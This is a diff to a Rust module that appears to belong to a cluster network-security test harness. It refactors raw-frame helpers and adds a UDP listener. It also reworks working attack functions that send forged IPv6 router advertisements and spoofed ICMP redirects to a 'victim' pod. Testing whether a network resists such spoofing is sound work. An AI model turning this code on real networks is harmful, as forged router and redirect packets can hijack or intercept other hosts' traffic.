@@ -9,6 +9,7 @@ use std::time::{Duration, Instant};
 use nix::libc;
 
 use super::InsideError;
+use crate::support::frames;
 
 /// The timeout of each socket operation.
 const SOCKET_TIMEOUT: Duration = Duration::from_secs(10);
@@ -20,6 +21,7 @@ pub(crate) fn main(args: &[&str]) -> Result<(), InsideError> {
             println!("{}", ask(address.parse()?)?);
             Ok(())
         }
+        ["hear", port] => hear(port.parse()?),
         ["sink", port] => sink(port.parse()?),
         ["pour", address, megabytes] => {
             let took = pour(address.parse()?, megabytes.parse()?)?;
@@ -68,6 +70,18 @@ pub(crate) fn ask(address: SocketAddr) -> Result<String, InsideError> {
     let mut answer = String::new();
     stream.read_to_string(&mut answer)?;
     Ok(answer)
+}
+
+/// Prints the content and the sender's address of each UDP datagram that arrives at `port`.
+fn hear(port: u16) -> Result<(), InsideError> {
+    let socket = UdpSocket::bind((Ipv6Addr::UNSPECIFIED, port))?;
+    println!("ready");
+    let mut content = [0; 64];
+    loop {
+        let (length, from) = socket.recv_from(&mut content)?;
+        let content = String::from_utf8_lossy(content.get(..length).unwrap_or_default());
+        println!("{}", answer(&content, from));
+    }
 }
 
 /// Runs a server that reads and discards the data of each connection. After the client has closed
@@ -224,15 +238,16 @@ fn crc32c(bytes: &[u8]) -> u32 {
     })
 }
 
-/// The link-local address of a router that does not exist.
-const ROUTER: Ipv6Addr = Ipv6Addr::new(0xfe80, 0, 0, 0, 0, 0, 0, 0xbad);
 const ALL_NODES: Ipv6Addr = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1);
 
 /// Sends a router advertisement (RFC 4861, section 4.2) to all nodes on the interface's link. The
 /// advertisement announces a default router and the address prefix `prefix`. The function sends a
-/// raw frame, so the interface needs neither an address nor a route.
+/// raw frame, so the interface needs neither an address nor a route. The source address is the
+/// link-local address that belongs to the interface's hardware address.
 pub(crate) fn advertise(interface: &str, prefix: Ipv6Addr) -> Result<(), InsideError> {
     const LIFETIME: u16 = 1800;
+    let mac = hardware_address(interface)?;
+    let router = frames::link_local_of(mac);
     let mut message = vec![134, 0, 0, 0, 64, 0];
     message.extend(LIFETIME.to_be_bytes());
     message.extend([0; 8]);
@@ -244,21 +259,9 @@ pub(crate) fn advertise(interface: &str, prefix: Ipv6Addr) -> Result<(), InsideE
     message.extend(14_400_u32.to_be_bytes());
     message.extend([0; 4]);
     message.extend(prefix.octets());
-    let length = u16::try_from(message.len())?;
-    let mut pseudo = Vec::new();
-    pseudo.extend(ROUTER.octets());
-    pseudo.extend(ALL_NODES.octets());
-    pseudo.extend(u32::from(length).to_be_bytes());
-    pseudo.extend([0, 0, 0, 58]);
-    pseudo.extend(&message);
-    message[2..4].copy_from_slice(&checksum(&pseudo).to_be_bytes());
-    let mut packet = vec![0x60, 0, 0, 0];
-    packet.extend(length.to_be_bytes());
-    packet.extend([58, 255]);
-    packet.extend(ROUTER.octets());
-    packet.extend(ALL_NODES.octets());
-    packet.extend(message);
-    send_frame(interface, [0x33, 0x33, 0, 0, 0, 1], 0x86dd, &packet)
+    let packet = frames::icmpv6(router, ALL_NODES, message);
+    let everyone = [0x33, 0x33, 0, 0, 0, 1];
+    send_frame(interface, &frames::ethernet(everyone, mac, 0x86dd, &packet))
 }
 
 /// Sends an ICMP redirect (RFC 792) to the pod `victim`. The redirect's source address is `router`,
@@ -271,82 +274,74 @@ fn redirect(
     away: Ipv4Addr,
     to: Ipv4Addr,
 ) -> Result<(), InsideError> {
-    let header = |from: Ipv4Addr, to: Ipv4Addr, length: u16| {
-        let mut header = vec![0x45, 0];
-        header.extend(length.to_be_bytes());
-        header.extend([0, 1, 0, 0, 64, 1, 0, 0]);
-        header.extend(from.octets());
-        header.extend(to.octets());
-        let sum = checksum(&header);
-        header[10..12].copy_from_slice(&sum.to_be_bytes());
-        header
-    };
     // The ICMP message has type 5 (redirect) and code 1 (for a host). The data of a redirect is the
     // packet that caused the redirect. The attack invents such a packet: an echo reply.
     let mut message = vec![5, 1, 0, 0];
     message.extend(to.octets());
-    message.extend(header(victim, away, 28));
-    message.extend([0, 0, 0xff, 0xff, 0, 0, 0, 0]);
-    let sum = checksum(&message);
+    message.extend(frames::ipv4(
+        victim,
+        away,
+        1,
+        &[0, 0, 0xff, 0xff, 0, 0, 0, 0],
+    ));
+    let sum = frames::checksum(&message);
     message[2..4].copy_from_slice(&sum.to_be_bytes());
-    let mut packet = header(router, victim, u16::try_from(20 + message.len())?);
-    packet.extend(message);
-    // The hardware address of a pod contains the pod's IPv4 address.
-    let [a, b, c, d] = victim.octets();
-    send_frame(interface, [0x0a, 0x58, a, b, c, d], 0x0800, &packet)
+    let packet = frames::ipv4(router, victim, 1, &message);
+    let mac = hardware_address(interface)?;
+    let frame = frames::ethernet(frames::mac_of_pod(victim), mac, 0x0800, &packet);
+    send_frame(interface, &frame)
 }
 
-/// Returns the Internet checksum of `bytes` (RFC 1071).
-fn checksum(bytes: &[u8]) -> u16 {
-    let words = bytes.chunks(2).map(|pair| {
-        u32::from(u16::from_be_bytes([
-            pair[0],
-            pair.get(1).copied().unwrap_or_default(),
-        ]))
-    });
-    let mut sum: u32 = words.sum();
-    while sum > 0xffff {
-        sum = (sum & 0xffff) + (sum >> 16);
+/// Returns the hardware address of an interface (netdevice(7)).
+fn hardware_address(interface: &str) -> Result<[u8; 6], InsideError> {
+    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
+    // SAFETY: an ifreq consists of integers and arrays of integers, which can all be zero.
+    let mut request: libc::ifreq = unsafe { std::mem::zeroed() };
+    for (to, from) in request.ifr_name.iter_mut().zip(interface.bytes()).take(15) {
+        *to = from.cast_signed();
     }
-    !(sum as u16)
+    let descriptor = std::os::fd::AsRawFd::as_raw_fd(&socket);
+    // SAFETY: `request` is valid for reads and writes during the system call. A successful system
+    // call has written the field `ifru_hwaddr`.
+    let hardware = unsafe {
+        if libc::ioctl(descriptor, libc::SIOCGIFHWADDR, &raw mut request) != 0 {
+            return Err(std::io::Error::last_os_error().into());
+        }
+        request.ifr_ifru.ifru_hwaddr.sa_data
+    };
+    let [a, b, c, d, e, f, ..] = hardware.map(i8::cast_unsigned);
+    Ok([a, b, c, d, e, f])
 }
 
-/// Sends `packet` in a link-layer frame (packet(7)). The kernel adds the frame's header.
-fn send_frame(
-    interface: &str,
-    to: [u8; 6],
-    protocol: u16,
-    packet: &[u8],
-) -> Result<(), InsideError> {
+/// Sends `frame`, which begins with its link-layer header, through the interface (packet(7)).
+pub(crate) fn send_frame(interface: &str, frame: &[u8]) -> Result<(), InsideError> {
     let name = std::ffi::CString::new(interface)?;
     // SAFETY: `name` ends with a NUL.
     let index = unsafe { libc::if_nametoindex(name.as_ptr()) };
     if index == 0 {
         return Err(std::io::Error::last_os_error().into());
     }
-    let mut hardware = [0; 8];
-    hardware[..6].copy_from_slice(&to);
     let address = libc::sockaddr_ll {
         sll_family: libc::AF_PACKET as u16,
-        sll_protocol: protocol.to_be(),
+        sll_protocol: 0,
         sll_ifindex: i32::try_from(index)?,
         sll_hatype: 0,
         sll_pkttype: 0,
-        sll_halen: 6,
-        sll_addr: hardware,
+        sll_halen: 0,
+        sll_addr: [0; 8],
     };
-    // SAFETY: `packet` and `address` outlive the system calls, and the passed lengths are their
+    // SAFETY: `frame` and `address` outlive the system calls, and the passed lengths are their
     // sizes. `fd` is a new descriptor, which only `socket` owns.
     let sent = unsafe {
-        let fd = libc::socket(libc::AF_PACKET, libc::SOCK_DGRAM | libc::SOCK_CLOEXEC, 0);
+        let fd = libc::socket(libc::AF_PACKET, libc::SOCK_RAW | libc::SOCK_CLOEXEC, 0);
         if fd < 0 {
             return Err(std::io::Error::last_os_error().into());
         }
         let socket: std::os::fd::OwnedFd = std::os::fd::FromRawFd::from_raw_fd(fd);
         libc::sendto(
             std::os::fd::AsRawFd::as_raw_fd(&socket),
-            packet.as_ptr().cast(),
-            packet.len(),
+            frame.as_ptr().cast(),
+            frame.len(),
             0,
             (&raw const address).cast(),
             size_of_val(&address) as libc::socklen_t,
